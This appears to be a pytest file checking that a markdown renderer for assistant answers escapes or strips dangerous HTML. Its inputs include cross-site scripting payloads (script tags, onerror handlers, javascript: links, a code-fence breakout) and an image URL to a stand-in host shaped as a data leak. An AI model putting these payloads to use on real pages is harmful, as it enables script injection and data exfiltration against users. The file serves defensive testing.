"""Assistant answers rendered from markdown and sanitized: what reaches the page is safe."""

from __future__ import annotations

from assistant.rendering import render_markdown


def test_script_tags_are_shown_as_text_not_run():
    html = render_markdown("Hi <script>alert(1)</script>")
    assert "<script" not in html
    assert "&lt;script&gt;" in html


def test_event_handlers_never_reach_the_page():
    html = render_markdown('<img src=x onerror="alert(1)"> and <a href="/" onclick="x()">a</a>')
    assert "<img" not in html
    assert "<a " not in html  # raw HTML is shown as text, never as markup
    assert "&lt;img" in html


def test_javascript_links_lose_their_target():
    html = render_markdown("[click](javascript:alert(1)) and [data](data:text/html;base64,xx)")
    assert 'href="javascript' not in html
    assert 'href="data:' not in html


def test_links_get_noopener_nofollow():
    html = render_markdown("See [the docs](https://example.com/docs).")
    assert '<a href="https://example.com/docs" rel="noopener nofollow">the docs</a>' in html


def test_markdown_images_become_links_so_nothing_loads_from_other_hosts():
    html = render_markdown("![secret](https://evil.example/leak?d=1)")
    assert "<img" not in html
    assert 'href="https://evil.example/leak?d=1"' in html


def test_tables_render_with_alignment_as_classes_not_styles():
    html = render_markdown("| Name | Count |\n|---|--:|\n| a | 1 |\n| b | 2 |")
    assert "<table>" in html and "<th>Name</th>" in html
    assert '<td class="align-right">2</td>' in html
    assert "style=" not in html


def test_code_blocks_have_a_copy_button_and_escaped_code():
    html = render_markdown("```python\nif a < b:\n    print('<b>')\n```")
    assert '<button type="button" class="copy-code' in html
    assert "Copy</button>" in html
    assert "if a &lt; b:" in html
    assert "<b>" not in html
    assert '<span class="code-lang">python</span>' in html


def test_a_hostile_language_name_cannot_break_out_of_the_code_block():
    html = render_markdown('```"><script>alert(1)</script>\nx\n```')
    assert "<script" not in html


def test_empty_answer_renders_nothing():
    assert render_markdown("") == ""
